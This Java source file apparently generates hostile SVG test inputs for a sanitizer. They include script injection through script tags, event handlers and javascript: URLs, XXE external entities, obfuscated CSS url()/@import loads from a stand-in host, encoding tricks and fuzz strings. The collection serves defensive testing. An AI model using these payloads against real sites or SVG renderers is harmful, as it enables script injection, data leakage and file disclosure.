package org.waymark.source;

import java.io.UnsupportedEncodingException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** SVGs that try to run a script or load a file, in every way known to us. */
final class HostileDrawings {
    private static final String NAMESPACES =
            "xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink' xmlns:h='http://www.w3.org/1999/xhtml'"
                    + " xmlns:e='http://www.w3.org/2001/xml-events'";
    private static final String PROGRAM = "top.pwned=1";

    private static final List<String> DOCTYPES = List.of(
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">",
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">",
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD XHTML 1.1//EN\" \"%1$s\">",
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD MathML 2.0//EN\" \"%1$s\">",
            "<!DOCTYPE svg SYSTEM \"%1$s\">",
            "<!DOCTYPE svg [<!ENTITY lpar '('><!ENTITY rpar ')'><!ENTITY sol '/'>]>",
            "<!DOCTYPE svg [<!ENTITY x SYSTEM '%1$s'>]>",
            "<!DOCTYPE svg [<!ENTITY %% p SYSTEM '%1$s'>%%p;]>",
            "<!DOCTYPE svg [<!ATTLIST rect onload CDATA 'top.pwned=1' style CDATA 'fill:url(%1$s)'>]>");

    private static final List<String> STYLES = List.of(
            "fill:url(%1$s)",
            "fill:url('%1$s')",
            "fill:url( \"%1$s\" )",
            "fill:URL(%1$s)",
            "fill:u\\72l(%1$s)",
            "fill:\\75rl(%1$s)",
            "fill:url\\28%1$s)",
            "fill:url/**/(%1$s)",
            "fill:url(#a);stroke:url(%1$s#a)",
            "fill:url(#a,%1$s)",
            "fill:url(\"#a\" url(%1$s))",
            "--x:url(%1$s);background:var(--x)",
            "background:url(%1$s)",
            "background:url&lpar;%1$s&rpar;",
            "background:/*url(#*/url(%1$s)/*)*/",
            "background:image-set('%1$s' 1x)",
            "background:-webkit-image-set(url(%1$s) 1x)",
            "background:image('%1$s')",
            "background:cross-fade(url(%1$s),url(%1$s))",
            "background:src('%1$s')",
            "background:element(%1$s)",
            "list-style:url(%1$s)",
            "cursor:url(%1$s),auto",
            "mask:url(%1$s#a)",
            "mask-image:url(%1$s)",
            "-webkit-mask:url(%1$s)",
            "filter:url(%1$s#a)",
            "clip-path:url(%1$s#a)",
            "marker:url(%1$s#a)",
            "shape-outside:url(%1$s)",
            "border-image:url(%1$s)",
            "content:url(%1$s)",
            "behavior:url(%1$s)",
            "-moz-binding:url(%1$s#a)",
            "offset-path:url(%1$s#a)",
            "display:block;animation:a 1s",
            "width:expression(top.pwned=1)");

    private static final List<String> SHEETS = List.of(
            "@import '%1$s';",
            "@import url(%1$s);",
            "@IMPORT \"%1$s\";",
            "@\\69mport '%1$s';",
            "@im<!-- -->port '%1$s';",
            "@im<![CDATA[port '%1$s';]]>",
            "@im<?x y?>port '%1$s';",
            "@im<g/>port '%1$s';",
            "<!-- @import '%1$s'; -->",
            "@charset 'UTF-7';@import '%1$s';",
            "@font-face{font-family:a;src:url(%1$s)}*{font-family:a}",
            "@namespace url(%1$s);",
            "@document url(%1$s){*{fill:red}}",
            "@layer a{*{background:url(%1$s)}}",
            "@media all{*{background:url(%1$s)}}",
            "@media all{@import '%1$s';}",
            "@supports(fill:red){*{background:url(%1$s)}}",
            "@property --x{syntax:'<url>';inherits:false;initial-value:url(%1$s)}",
            "@keyframes a{from{background:url(%1$s)}}*{animation:a 1s}",
            "@view-transition{navigation:auto}*{background:url(%1$s)}",
            "]]&gt;*{background:url(%1$s)}",
            "*{background:url(%1$s",
            "*{content:'a\n;background:url(%1$s)'}",
            "/**/*{background:url(%1$s)}/*");

    private static final List<String> LINKED = List.of(
            "image",
            "use",
            "a",
            "feImage",
            "script",
            "linearGradient",
            "pattern",
            "textPath",
            "filter",
            "mask",
            "tref",
            "cursor",
            "mpath",
            "animate",
            "foreignObject",
            "h:img",
            "h:a",
            "h:link",
            "h:base",
            "h:iframe",
            "h:embed",
            "h:object",
            "font-face-uri",
            "color-profile",
            "discard",
            "video",
            "audio",
            "iframe");

    private static final List<String> EVENTS = List.of(
            "onload",
            "onLoad",
            "ONLOAD",
            "onerror",
            "onclick",
            "onbegin",
            "onend",
            "onrepeat",
            "onfocusin",
            "onresize",
            "onanimationstart",
            "ontransitionend",
            "onpointerenter",
            "onmouseover",
            "onunload",
            "onzoom",
            "e:onload",
            "x:onload",
            "h:onload");

    private static final List<String> ATTRIBUTE_PIECES = List.of(
            "a",
            " ",
            "\n",
            "\t",
            "\r\n",
            "&#10;",
            "&#9;",
            "&#13;",
            "&quot;",
            "&apos;",
            "&lt;",
            ">",
            "&amp;",
            "&amp;amp;",
            "\"",
            "\u0085",
            "\u00A0",
            "\u2028",
            "&#x2028;",
            "\uD83D\uDE8C",
            "&#x1F68C;",
            "\uFFFD",
            "e\u0301",
            "/*",
            "{",
            "]]>",
            "<!--".replace("<", "&lt;"),
            "(",
            "#",
            "%%20");

    private static final List<String> TEXT_PIECES = Stream.concat(
                    ATTRIBUTE_PIECES.stream().map(piece -> piece.replace("]]>", "]]&gt;")),
                    Stream.of("<![CDATA[<a>&b;]]>", "<!-- c -->", "<?d e?>", "<desc/>", "'", "<z xmlns='urn:z'>f</z>"))
            .toList();

    private HostileDrawings() {}

    /**
     * The files.
     *
     * @param evil an address without scheme, such as {@code evil.invalid/x}, that must not be requested
     */
    static List<byte[]> all(String evil) {
        var files = new ArrayList<byte[]>();
        var contents = new ArrayList<String>();
        List<String> addresses = addresses(evil);
        String plain = addresses.get(0);
        for (String style : STYLES) {
            for (String address : addresses.subList(0, 6)) {
                contents.add("<rect width='9' height='9' style=\""
                        + style.formatted(address).replace("\"", "&quot;") + "\"/>");
                contents.add("<style>rect{" + style.formatted(address) + "}</style><rect width='9' height='9'/>");
            }
            String value =
                    style.substring(style.indexOf(':') + 1).formatted(plain).replace("\"", "&quot;");
            for (String attribute :
                    List.of("fill", "stroke", "mask", "filter", "clip-path", "marker-start", "cursor")) {
                contents.add("<path d='M0 0L9 9' " + attribute + "=\"" + value + "\"/>");
            }
        }
        for (String sheet : SHEETS) {
            for (String address : addresses.subList(0, 6)) {
                contents.add("<style>" + sheet.formatted(address) + "</style><rect width='9' height='9'/>");
                contents.add("<style><![CDATA[" + sheet.formatted(address).replace("]]", "") + "]]></style><rect/>");
                contents.add("<h:style>" + sheet.formatted(address) + "</h:style><rect/>");
            }
        }
        for (String address : addresses) {
            for (String element : LINKED) {
                for (String attribute : List.of("href", "x:href", "src", "xml:base='%s' href")) {
                    String typed = attribute.contains("%s") ? attribute.formatted(address) : attribute;
                    contents.add("<" + element + " width='9' height='9' rel='stylesheet' " + typed + "='" + address
                            + "'><rect width='9' height='9'/></" + element + ">");
                }
            }
        }
        for (String event : EVENTS) {
            for (String element : List.of("g", "image href='x:'", "animate begin='0s'", "h:body", "h:img src='x:'")) {
                contents.add("<" + element + " " + event + "='" + PROGRAM + "'/>");
            }
        }
        contents.addAll(List.of(
                "<script>" + PROGRAM + "</script>",
                "<h:script>" + PROGRAM + "</h:script>",
                "<script xmlns='http://www.w3.org/2000/svg'>" + PROGRAM + "</script>",
                "<s:script xmlns:s='http://www.w3.org/2000/svg'>" + PROGRAM + "</s:script>",
                "<script type='module'>" + PROGRAM + "</script>",
                "<metadata><script>" + PROGRAM + "</script></metadata>",
                "<z xmlns='urn:z'><script xmlns='http://www.w3.org/2000/svg'>" + PROGRAM + "</script></z>",
                "<foreignObject><h:iframe srcdoc='&lt;script>" + PROGRAM + "&lt;/script>'/></foreignObject>",
                "<foreignObject><h:body><h:script>" + PROGRAM + "</h:script></h:body></foreignObject>",
                "<set attributeName='onload' to='" + PROGRAM + "'/>",
                "<image id='i'/><set href='#i' attributeName='href' to='" + plain + "'/>",
                "<image><animate attributeName='href' values='" + plain + "' begin='0s' fill='freeze'/></image>",
                "<a id='a'><animate attributeName='href' to='javascript:" + PROGRAM + "'/></a>",
                "<handler type='text/javascript' e:event='load'>" + PROGRAM + "</handler>",
                "<e:listener event='load' handler='" + plain + "'/>",
                "<h:meta http-equiv='refresh' content='0;url=" + plain + "'/>",
                "<h:link rel='prefetch' href='" + plain + "'/>",
                "<?xml-stylesheet href='" + plain + "'?>",
                "<!-- --><![CDATA[<script>" + PROGRAM + "</script>]]>",
                "<title>&lt;script>" + PROGRAM + "&lt;/script></title>",
                "<desc>&#60;/desc&#62;&#60;script&#62;" + PROGRAM + "</desc>",
                "<style>&lt;/style>&lt;script>" + PROGRAM + "&lt;/script></style>",
                "<text id=\"&quot;>&lt;script>" + PROGRAM + "\">]]&gt;</text>",
                "<g class='&#10;&#9;&#13;a' aria-label='&#x2028;&#x85;\u0085'>&#13;\n&#10;&#x85;\u2028</g>"));
        for (String content : contents) {
            files.add(utf8("<svg " + NAMESPACES + ">" + content + "</svg>"));
        }
        for (String doctype : DOCTYPES) {
            for (int i = 0; i < contents.size(); i += 29) {
                files.add(utf8(doctype.formatted(plain) + "<svg " + NAMESPACES + ">" + contents.get(i) + "</svg>"));
            }
            for (String address : addresses.subList(0, 6)) {
                files.add(utf8(doctype.formatted(plain) + "<svg " + NAMESPACES + "><rect style=\"background:url&lpar;"
                        + address + "&rpar;\"/><image href=\"&sol;&sol;" + evil + "\"/>&x;</svg>"));
            }
        }
        String bad = "<svg " + NAMESPACES + "><image href='" + plain + "'/><script>" + PROGRAM + "</script></svg>";
        for (String encoding : List.of(
                "UTF-8", "UTF-16", "UTF-16BE", "UTF-16LE", "UTF-32", "ISO-2022-JP", "windows-1252", "Shift_JIS")) {
            files.add(encoded("<?xml version='1.0' encoding='" + encoding + "'?>" + bad, encoding));
            files.add(encoded("<?xml version='1.0' encoding='UTF-7'?>" + bad, encoding));
            files.add(encoded("<?xml version='1.1' encoding='" + encoding + "'?>" + bad, encoding));
            files.add(encoded("<?xml-stylesheet type='text/css' href='" + plain + "'?>" + bad, encoding));
            files.add(encoded("<?xml-stylesheet type='text/xsl' href='" + plain + "'?>" + bad, encoding));
        }
        files.add(utf8("<?xml version='1.0' encoding='UTF-7'?>" + bad.replace("<", "+ADw-")));
        return files;
    }

    /** SVGs whose texts and values are hard to parse consistently, by a seed. */
    static List<byte[]> odd(int count, long seed) {
        var random = new Random(seed);
        return IntStream.range(0, count)
                .mapToObj(i -> utf8("<svg " + NAMESPACES + " id='" + odd(random, ATTRIBUTE_PIECES) + "'><title>"
                        + odd(random, TEXT_PIECES) + "</title><style>" + odd(random, TEXT_PIECES)
                        + "</style><text font-family='" + odd(random, ATTRIBUTE_PIECES) + "' xml:lang='"
                        + odd(random, ATTRIBUTE_PIECES) + "' x:href='#" + odd(random, ATTRIBUTE_PIECES) + "'>"
                        + odd(random, TEXT_PIECES) + "<tspan/>" + odd(random, TEXT_PIECES) + "</text></svg>"))
                .toList();
    }

    private static String odd(Random random, List<String> pieces) {
        return random.ints(random.nextInt(9), 0, pieces.size())
                .mapToObj(pieces::get)
                .collect(Collectors.joining());
    }

    private static List<String> addresses(String evil) {
        String document = "<svg " + NAMESPACES + " id=\"a\"><script>" + PROGRAM + "</script><image href=\"http://"
                + evil + "\"/></svg>";
        return List.of(
                "http://" + evil,
                "//" + evil,
                "\uFF48ttp://" + evil,
                " http:\\\\" + evil,
                "&#104;ttp&#58;//" + evil,
                "h&#10;ttp://" + evil,
                "&sol;&sol;" + evil,
                "/evil",
                "../evil",
                "evil.svg#a",
                "?evil",
                "javascript:" + PROGRAM,
                "java&#9;script:" + PROGRAM,
                "data:image/svg+xml;base64,"
                        + Base64.getEncoder().encodeToString(document.getBytes(StandardCharsets.UTF_8)) + "#a",
                "data:text/html,&lt;script>" + PROGRAM + "&lt;/script>",
                "data:image/png;base64,"
                        + Base64.getEncoder().encodeToString(document.getBytes(StandardCharsets.UTF_8)),
                "data:image/png,x http://" + evil);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] encoded(String text, String encoding) {
        try {
            return text.getBytes(encoding);
        } catch (UnsupportedEncodingException e) {
            throw new IllegalStateException(encoding, e);
        }
    }
}
